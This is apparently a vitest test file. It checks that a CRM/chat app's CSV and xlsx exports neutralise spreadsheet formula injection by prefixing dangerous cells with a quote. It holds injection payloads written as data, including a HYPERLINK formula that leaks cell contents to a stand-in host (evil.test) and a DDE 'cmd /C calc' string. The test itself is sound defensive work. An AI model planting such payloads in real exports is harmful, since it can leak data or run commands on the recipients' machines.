import { parse } from 'csv-parse/sync'
import { Effect } from 'effect'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import * as Members from '../../store/members'
import * as Users from '../../store/users'
import { advance, ENV, warmedUp } from '../broadcasts/support'
import { api, type Who } from '../contacts/support'
import { createLivechat, startVisitor } from '../livechat/support'
import { linkedNumber } from '../msgapp/support'
import * as F from '../support/fixtures'
import { startTestServer, type TestServer } from '../support/server'

/**
 * Every CSV and xlsx export hands out formulas inert (OWASP, CSV injection): text planted in every
 * field an export shows — by a live-chat visitor with no credentials, by an API channel's
 * customer, by members through the API — comes out with a `'` in front, the rest unchanged, so a
 * spreadsheet shows it as text; a normalised E.164 phone in a phone column stays as it is
 * (docs/decisions.md "Spreadsheet exports: formulas come out inert").
 */
let s: TestServer
let ownerSession: F.Session
let owner: Who
let agentWho: Who
const ids = {
  visitor: 0,
  form: 0,
  api: 0,
  segment: 0,
  pipeline: 0,
  conversation: 0,
}

// What strangers and members plant: each starts with one of the triggers.
const HYPER = '=HYPERLINK("http://evil.test/?"&A1,"Visitor")'
const SUM = '+SUM(1+1)'
const CMD = "-2+3+cmd|' /C calc'!A0"
const AT = '@cmd'
const FULL = '\uFF1D1+1' // full-width '='
const AGENT = '@Agent Smith'
// The visitor's phone is kept as typed (with spaces): not a plain number, so it comes out quoted
// (a spreadsheet would read it as a broken formula); a normalised E.164 phone stays as it is.
const VISITOR_PHONE = "'+62 812 7771 1109"
const FORM_PHONE = '+6281277711101'

/** A cell that could start a formula (tab and CR included, after leading white space too). */
const live = (v: string) => /^(?:[\t\r]|\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20])/.test(v)
const PHONE_COLUMNS = new Set(['phone', 'contact_phone'])

/** No cell of the table is live, except a plain E.164 phone in a phone column. */
const expectInert = (what: string, header: readonly string[], rows: ReadonlyArray<readonly string[]>) => {
  const offenders: string[] = []
  for (const [r, row] of [header, ...rows].entries())
    for (const [c, v] of row.entries()) {
      if (!live(v)) continue
      if (r > 0 && PHONE_COLUMNS.has(header[c]!) && /^\+\d{8,15}$/.test(v)) continue
      offenders.push(`${header[c]} row ${r}: ${JSON.stringify(v)}`)
    }
  expect(offenders, `${what}: live cells`).toEqual([])
}

const csvOf = async (path: string, who: Who = owner) => {
  const res = await s.fetch(path, { headers: who })
  const text = await res.text()
  expect(res.status, `${path}: ${text}`).toBe(200)
  const [header, ...rows] = parse(text, { bom: true, relax_column_count: true }) as string[][]
  expectInert(path, header!, rows)
  const records = rows.map((row) => Object.fromEntries(header!.map((h, i) => [h, row[i] ?? ''])))
  return { header: header!, rows: records }
}

const row = (rows: ReadonlyArray<Record<string, string>>, column: string, value: string) => {
  const found = rows.find((r) => r[column] === value)
  expect(found, `a row with ${column} = ${value} in ${JSON.stringify(rows)}`).toBeDefined()
  return found!
}

// The report range: yesterday to tomorrow in the workspace zone (the broadcast moves the clock).
const day = (offset: number) =>
  new Intl.DateTimeFormat('en-CA', { timeZone: 'Asia/Jakarta' }).format(
    new Date(Date.now() + offset * 86_400_000),
  )
const RANGE = () => `from=${day(-1)}&to=${day(1)}`

const ok = <T extends { status: number; error: unknown }>(r: T, what: string, status = [200, 201]) => {
  expect(status, `${what}: ${JSON.stringify(r.error)}`).toContain(r.status)
  return r
}

beforeAll(async () => {
  s = await startTestServer({ ...ENV, REDIS_URL: '', LIVECHAT_MIN_FILL_MS: '0' })
  const w = await F.workspace(s, { plan: 'pro' })
  const session = await F.signIn(s, w.ownerEmail)
  ownerSession = session
  owner = session.headers()
  const o = api(s, owner)
  // A member whose own name is a formula (names come from sign-up and invitations).
  const agent = await s.run(
    Effect.gen(function* () {
      const user = yield* Users.ensure(`agent-${Date.now()}@example.com`, AGENT)
      yield* Members.addWithRole(w.workspaceId, user.id, 'Admin')
      yield* Users.setActiveWorkspace(user.id, w.workspaceId)
      return user
    }),
  )
  agentWho = (await F.signIn(s, agent.email)).headers()
  const team = ok(
    await o.post('/v1/teams', { name: '=Team', type: 'frontline', member_ids: [agent.id] }),
    'team',
  ).data
  ok(await o.post('/v1/conversation-categories', { name: SUM }), 'category')
  const vip = ok(await o.post('/v1/labels', { name: AT }), 'label').data
  ok(await o.post('/v1/contact-fields', { label: 'Note', type: 'text', key: 'note' }), 'contact field')
  ok(
    await o.post('/v1/custom-fields', { entity: 'lead', label: 'Ref', type: 'text', key: 'ref' }),
    'lead field',
  )

  // A live-chat visitor, no credentials: the name is a formula.
  const chat = await createLivechat(s, session, { name: '=Website' })
  const started = await startVisitor(s, chat.livechat.key, { name: HYPER, phone: '+62 812 7771 1109' })
  ids.conversation = started.interaction_id
  const conv = ok(await o.get(`/v1/interactions/${started.interaction_id}`), 'interaction').data
  ids.visitor = conv.contact.id
  // An API channel's customer: the contact name is a formula.
  const apiChannel = ok(await o.post('/v1/channels/api', { name: '-Shop' }), 'api channel').data
  const inbound = await s.fetch(
    '/v1/channel-api/messages',
    F.json(
      { conversation_id: 'f-1', contact: { id: 'cust-1', name: SUM }, message: { id: 'm1', text: 'Halo' } },
      F.bearer(apiChannel.credentials.key),
    ),
  )
  expect(inbound.status, await inbound.clone().text()).toBeLessThan(300)
  const apiConv = (await inbound.json()) as { data: { interaction_id: number } }
  ids.api = ok(
    await o.get(`/v1/interactions/${apiConv.data.interaction_id}`),
    'api interaction',
  ).data.contact.id
  // A contact through the API with a formula in every text field.
  ids.form = ok(
    await o.post('/v1/contacts', {
      name: CMD,
      phone: FORM_PHONE,
      company: SUM,
      job_title: HYPER,
      address: FULL,
      city: AT,
      label_ids: [vip.id],
      custom: { note: '=1+1' },
    }),
    'contact',
  ).data.id
  for (const id of [ids.visitor, ids.api])
    ok(await o.patch(`/v1/contacts/${id}`, { label_ids: [vip.id] }), 'contact label')
  ids.segment = ok(
    await o.post('/v1/segments', { name: '=Segment', rules: [{ field: 'label', op: 'has', value: vip.id }] }),
    'segment',
  ).data.id

  // The conversation goes to the team and the member answers it (a reply fact for the KPIs).
  ok(
    await o.patch(`/v1/interactions/${ids.conversation}`, { team_id: team.id, assignee_id: agent.id }),
    'assign',
  )
  ok(await api(s, agentWho).post(`/v1/interactions/${ids.conversation}/messages`, { text: 'Hi' }), 'reply')

  // The pipeline: names, the lead's text, its work.
  const settings = await s.fetch('/v1/pipeline/settings', {
    ...F.json({ lost_reasons: ['=Lost'], expense_categories: ['@Meals'] }, owner),
    method: 'PUT',
  })
  expect(settings.status, await settings.clone().text()).toBe(200)
  const flow = ok(await o.post('/v1/pipelines', { name: '=Pipeline' }), 'pipeline').data
  ids.pipeline = flow.id
  const lead = ok(
    await o.post('/v1/leads', {
      pipeline_id: flow.id,
      title: HYPER,
      contact_id: ids.visitor,
      client_name: SUM,
      assignee_id: agent.id,
      value_estimate: 10,
      followup_note: CMD,
      note: AT,
      custom: { ref: FULL },
    }),
    'lead',
  ).data
  const lost = flow.stages.find((x: { kind: string }) => x.kind === 'lost').id
  ok(
    await o.post(`/v1/leads/${lead.id}/move`, { stage_id: lost, lost_reason: '=Lost', lost_note: SUM }),
    'move',
  )
  ok(
    await api(s, agentWho).post(`/v1/leads/${lead.id}/activities`, { kind: 'call', body: HYPER }),
    'activity',
  )
  ok(await o.post(`/v1/leads/${lead.id}/expenses`, { category: '@Meals', amount: 5, note: CMD }), 'expense')
}, 120_000)
afterAll(() => s?.stop())

/** The three planted contacts as a contacts export shows them (`more`: the form's other columns). */
const expectContacts = (rows: ReadonlyArray<Record<string, string>>, more: Record<string, string>) => {
  expect(row(rows, 'id', String(ids.visitor))).toMatchObject({ name: `'${HYPER}`, phone: VISITOR_PHONE })
  expect(row(rows, 'id', String(ids.api)).name).toBe(`'${SUM}`)
  expect(row(rows, 'id', String(ids.form))).toMatchObject({
    name: `'${CMD}`,
    phone: FORM_PHONE,
    company: `'${SUM}`,
    city: `'${AT}`,
    ...more,
  })
}

describe('every export hands formulas out inert', () => {
  it('GET /contacts/export: the visitor, the API customer and every text field of a contact', async () => {
    const { rows } = await csvOf('/v1/contacts/export')
    expectContacts(rows, { job_title: `'${HYPER}`, address: `'${FULL}`, labels: `'${AT}`, note: "'=1+1" })
  })

  it('GET /segments/{id}/export', async () => {
    const { rows } = await csvOf(`/v1/segments/${ids.segment}/export`)
    expect(rows).toHaveLength(3)
    expectContacts(rows, {})
  })

  it('GET /pipeline/export: leads, activities and expenses', async () => {
    const leads = await csvOf(`/v1/pipeline/export?type=leads&pipeline_id=${ids.pipeline}`)
    expect(leads.rows).toHaveLength(1)
    expect(leads.rows[0]).toMatchObject({
      title: `'${HYPER}`,
      pipeline: "'=Pipeline",
      assignee: `'${AGENT}`,
      contact_name: `'${HYPER}`,
      contact_phone: VISITOR_PHONE,
      client: `'${SUM}`,
      value_estimate: '10',
      followup_note: `'${CMD}`,
      lost_reason: "'=Lost",
      lost_note: `'${SUM}`,
      note: `'${AT}`,
      ref: `'${FULL}`,
    })
    const acts = await csvOf(`/v1/pipeline/export?type=activities&pipeline_id=${ids.pipeline}`)
    expect(acts.rows.map((r) => [r.lead_title, r.body, r.author])).toContainEqual([
      `'${HYPER}`,
      `'${HYPER}`,
      `'${AGENT}`,
    ])
    const spent = await csvOf(`/v1/pipeline/export?type=expenses&pipeline_id=${ids.pipeline}`)
    expect(spent.rows.map((r) => [r.lead_title, r.category, r.amount, r.note])).toEqual([
      [`'${HYPER}`, "'@Meals", '5', `'${CMD}`],
    ])
  })

  it('GET /reports/export: channels, labels, categories, agents and teams by name', async () => {
    const channel = await csvOf(`/v1/reports/export?${RANGE()}&type=channel`)
    expect(channel.rows.map((r) => r.channel)).toEqual(expect.arrayContaining(["'=Website", "'-Shop"]))
    expect(
      row((await csvOf(`/v1/reports/export?${RANGE()}&type=label`)).rows, 'label', `'${AT}`),
    ).toBeDefined()
    expect(
      row((await csvOf(`/v1/reports/export?${RANGE()}&type=category`)).rows, 'category', `'${SUM}`),
    ).toBeDefined()
    expect(
      row((await csvOf(`/v1/reports/export?${RANGE()}&type=agents`)).rows, 'name', `'${AGENT}`).replies,
    ).toBe('1')
    expect(
      row((await csvOf(`/v1/reports/export?${RANGE()}&type=tickets`)).rows, 'team', "'=Team"),
    ).toBeDefined()
    for (const type of ['summary', 'daily']) await csvOf(`/v1/reports/export?${RANGE()}&type=${type}`)
  })

  it('GET /kpi/export: people and teams by name, summary and raw rows', async () => {
    expect(
      row((await csvOf(`/v1/kpi/export?${RANGE()}&type=summary`)).rows, 'name', `'${AGENT}`).replies,
    ).toBe('1')
    const replies = await csvOf(`/v1/kpi/export?${RANGE()}&type=replies`)
    expect(replies.rows.map((r) => [r.user, r.team])).toEqual([[`'${AGENT}`, "'=Team"]])
    for (const type of ['conversations', 'tickets']) await csvOf(`/v1/kpi/export?${RANGE()}&type=${type}`)
  })

  it('GET /broadcasts/{id}/export: names and messages, as CSV and as xlsx', async () => {
    const number = await linkedNumber(s, ownerSession, '6281277700001')
    await warmedUp(s, number.ch.id)
    const o = api(s, owner)
    const b = ok(
      await o.post('/v1/broadcasts', {
        name: '=Promo',
        channel_id: number.ch.id,
        audience: { contact_ids: [ids.visitor, ids.form, ids.api] },
        messages: [{ text: '{{name}}' }],
        settings: { pace_per_minute: 30, random_delay_seconds: 0, quiet_hours: null },
      }),
      'broadcast',
    ).data
    ok(await o.post(`/v1/broadcasts/${b.id}/schedule`, { risk_ack: true }), 'schedule')
    for (let i = 0; i < 200; i++) {
      if ((await o.get(`/v1/broadcasts/${b.id}`)).data.status === 'completed') break
      await advance(s, 2500)
      await new Promise((r) => setTimeout(r, 30))
    }
    expect((await o.get(`/v1/broadcasts/${b.id}`)).data.status).toBe('completed')
    const { rows } = await csvOf(`/v1/broadcasts/${b.id}/export?format=csv`)
    // The visitor's typed phone is no valid number and the API customer has none: both skipped.
    expect(row(rows, 'name', `'${HYPER}`)).toMatchObject({ phone: VISITOR_PHONE, status: 'skipped' })
    expect(row(rows, 'name', `'${SUM}`)).toMatchObject({ phone: '', status: 'skipped' })
    expect(row(rows, 'name', `'${CMD}`)).toMatchObject({
      phone: FORM_PHONE,
      status: 'sent',
      message: `'${CMD}`,
    })
    // The workbook: the same cells, written as text (never as formulas), inert too.
    const res = await s.fetch(`/v1/broadcasts/${b.id}/export`, { headers: owner })
    expect(res.status).toBe(200)
    const book = new ExcelJS.Workbook()
    await book.xlsx.load(await res.arrayBuffer())
    const sheet = book.worksheets[0]!
    const table: string[][] = []
    sheet.eachRow((r) => {
      const cells: string[] = []
      for (let c = 1; c <= sheet.columnCount; c++) {
        const cell = r.getCell(c)
        expect(cell.type, `${cell.address} is a formula`).not.toBe(ExcelJS.ValueType.Formula)
        cells.push(cell.value === null || cell.value === undefined ? '' : String(cell.value))
      }
      table.push(cells)
    })
    const [header, ...data] = table
    expectInert('xlsx', header!, data)
    const names = data.map((r) => r[header!.indexOf('name')])
    expect(names).toEqual(expect.arrayContaining([`'${HYPER}`, `'${CMD}`, `'${SUM}`]))
    expect(data.map((r) => r[header!.indexOf('phone')])).toEqual(
      expect.arrayContaining([VISITOR_PHONE, FORM_PHONE]),
    )
    expect(data.map((r) => r[header!.indexOf('message')])).toContain(`'${CMD}`)
  })
})
